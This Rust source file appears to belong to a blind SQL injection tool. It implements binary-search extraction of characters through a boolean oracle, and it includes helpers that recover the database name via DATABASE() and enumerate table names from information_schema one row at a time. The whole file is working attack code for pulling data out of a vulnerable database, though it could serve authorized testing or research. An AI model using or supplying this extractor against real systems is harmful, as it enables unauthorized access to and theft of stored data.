//! Binary-search character extraction over the printable ASCII range
//! (§4.5), grounded in `statsqli.extractor.BinarySearchExtractor`.

use std::sync::Arc;

use async_trait::async_trait;

use super::oracle::Oracle;
use super::session::{ExtractionSession, ExtractionTarget};

const ASCII_MIN: i32 = 32;
const ASCII_MAX: i32 = 126;

/// A strategy for recovering one character at a time from a boolean oracle.
/// `BinarySearchExtractor` and `TraditionalExtractor` both implement this so
/// the scheduler and the benchmarking CLI command can treat them uniformly.
#[async_trait]
pub trait CharacterExtractor: Send + Sync {
    async fn extract_character(&self, position: u32) -> Option<char>;
    fn total_queries(&self) -> u64;
}

pub struct BinarySearchExtractor {
    oracle: Oracle,
    target: ExtractionTarget,
}

impl BinarySearchExtractor {
    pub fn new(session: Arc<ExtractionSession>, target: ExtractionTarget) -> Self {
        Self {
            oracle: Oracle::new(session),
            target,
        }
    }

    /// Extracts characters left to right until `max_length`, a `\0`/`\n`/`\r`
    /// terminator, a cancellation request, or an unresolved position ends
    /// the run. Trailing whitespace introduced by a short underlying value
    /// is trimmed.
    pub async fn extract_string(&self, max_length: u32) -> String {
        let mut out = String::new();
        for position in 1..=max_length {
            if self.oracle.session().is_cancelled() {
                tracing::debug!(position, "extraction cancelled");
                break;
            }
            match self.extract_character(position).await {
                Some(c) if c == '\0' || c == '\n' || c == '\r' => break,
                Some(c) => out.push(c),
                None => {
                    tracing::warn!(position, "could not resolve character, stopping extraction");
                    break;
                }
            }
        }
        out.trim_end_matches(['\0', '\n', '\r']).to_string()
    }
}

/// Extracts the current database name via `DATABASE()`, a thin wrapper
/// around [`BinarySearchExtractor::extract_string`] with no table/row
/// predicate of its own.
pub async fn extract_database_name(session: Arc<ExtractionSession>, max_length: u32) -> String {
    let target = ExtractionTarget::raw("DATABASE()");
    let extractor = BinarySearchExtractor::new(session, target);
    extractor.extract_string(max_length).await
}

/// Extracts up to `max_tables` table names from `information_schema.tables`
/// for `database`, one `OFFSET` at a time, stopping as soon as a row comes
/// back empty (no more tables left to enumerate).
pub async fn extract_table_names(
    session: Arc<ExtractionSession>,
    database: &str,
    max_tables: u32,
    max_length: u32,
) -> Vec<String> {
    let mut names = Vec::new();
    for offset in 0..max_tables {
        let selector = format!(
            "table_name FROM information_schema.tables WHERE table_schema = '{}' LIMIT 1 OFFSET {}",
            database, offset
        );
        let target = ExtractionTarget::raw(selector);
        let extractor = BinarySearchExtractor::new(Arc::clone(&session), target);
        let name = extractor.extract_string(max_length).await;
        if name.is_empty() {
            break;
        }
        names.push(name);
    }
    names
}

#[async_trait]
impl CharacterExtractor for BinarySearchExtractor {
    async fn extract_character(&self, position: u32) -> Option<char> {
        if self.oracle.session().is_cancelled() {
            return None;
        }

        let expr = self.target.char_expr(position);

        // Bisects for the smallest k in [ASCII_MIN, ASCII_MAX + 1] where
        // `expr >= k` reads false; ASCII_MAX + 1 is a sentinel that's always
        // false, so the loop always terminates with `low == high`. The
        // floor-mid here (as opposed to a ceiling-mid paired with `low = mid`)
        // is what guarantees ASCII_MIN itself gets probed when the search
        // window narrows to `[ASCII_MIN, ASCII_MIN + 1]`.
        let mut low = ASCII_MIN;
        let mut high = ASCII_MAX + 1;

        while low < high {
            let mid = low + (high - low) / 2;
            let predicate = format!("{} >= {}", expr, mid);
            if self.oracle.evaluate_at(position, &predicate).await {
                low = mid + 1;
            } else {
                high = mid;
            }
        }

        // `high` now holds the first value the oracle called false; the
        // largest value it called true (if any) is one below that.
        let value = high - 1;

        // Binary search converges under noise; verify the candidate and its
        // immediate neighbors with direct equality checks before committing,
        // checked in descending order since the search is biased to
        // underestimate under noise (the oracle defaults to false on a
        // failed measurement).
        for candidate in [value + 1, value, value - 1] {
            if !(ASCII_MIN..=ASCII_MAX).contains(&candidate) {
                continue;
            }
            let predicate = format!("{} = {}", expr, candidate);
            if self.oracle.evaluate_at(position, &predicate).await {
                return char::from_u32(candidate as u32);
            }
        }

        if (ASCII_MIN..=ASCII_MAX).contains(&value) {
            char::from_u32(value as u32)
        } else {
            None
        }
    }

    fn total_queries(&self) -> u64 {
        self.oracle.session().query_count()
    }
}
